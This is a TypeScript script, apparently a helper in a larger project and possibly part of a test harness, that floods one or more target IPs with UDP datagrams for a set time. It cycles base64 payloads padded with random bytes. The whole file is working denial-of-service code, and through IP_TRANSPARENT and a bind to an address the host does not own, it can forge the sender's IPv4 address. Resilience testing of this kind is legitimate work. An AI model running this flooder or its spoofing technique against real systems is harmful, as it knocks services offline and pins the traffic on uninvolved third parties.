/**
 * Sends datagrams as fast as one processor can: `attacker-main.ts PLAN`, with PLAN as JSON.
 *
 * Writes "ready" when it begins and "sent NUMBER" at its end, of those that the kernel took.
 */
import { randomBytes } from "node:crypto";
import { type Libc, loadLibc } from "../../src/adapters/native/libc.ts";
import { makeSockaddr } from "../../src/adapters/network/ip-address.ts";

/** What to send where. */
export interface AttackPlan {
  readonly targets: readonly string[];
  /** For each target an IPv4 address that is written as the sender's, although this host does not have it. Default: the host's own. */
  readonly sources?: readonly string[];
  readonly port: number;
  readonly forMs: number;
  /** Base64, sent in turn. */
  readonly payloads: readonly string[];
  /** Each payload at each of these lengths, filled up with noise. Default: as long as it is. */
  readonly lengths?: readonly number[];
}

const datagram = 2;
const inet = 2;
const doNotWait = 0x40;
const ipLevel = 0;
const ipTransparent = 19;
const burst = 100;

const plan = JSON.parse(process.argv[2] ?? "") as AttackPlan;
const libc = loadLibc();
if (libc === null) throw new Error("Cannot attack: no koffi for this machine");
const ways = plan.targets.map((ip, index) => {
  const target = makeSockaddr(ip, plan.port);
  return { fd: openSocket(libc, plan.sources?.[index]), target };
});
const payloads = plan.payloads.flatMap((payload) => filled(Buffer.from(payload, "base64"), plan.lengths));
const end = performance.now() + plan.forMs;
let tried = 0;
let sent = 0;
process.stdout.write("ready\n");
while (performance.now() < end) {
  for (let turn = 0; turn < burst; turn += 1) {
    const payload = payloads[tried % payloads.length] ?? Buffer.alloc(1);
    const way = ways[tried % ways.length];
    tried += 1;
    if (way === undefined) continue;
    if (libc.sendto(way.fd, payload, payload.length, doNotWait, way.target, way.target.length) >= 0) sent += 1;
  }
}
process.stdout.write(`sent ${sent}\n`);

function filled(payload: Buffer, lengths: readonly number[] = [payload.length]): readonly Buffer[] {
  return lengths.map((length) => Buffer.concat([payload, randomBytes(Math.max(0, length - payload.length))]));
}

function openSocket(libc: Libc, sender: string | undefined): number {
  const fd = libc.socket(inet, datagram, 0);
  if (sender === undefined) return fd;
  const source = makeSockaddr(sender, 0);
  const isForged =
    libc.setsockopt(fd, ipLevel, ipTransparent, Buffer.from([1, 0, 0, 0]), 4) === 0 &&
    libc.bind(fd, source, source.length) === 0;
  if (!isForged) throw new Error(`Cannot send as ${sender}: errno ${libc.errno()}`);
  return fd;
}
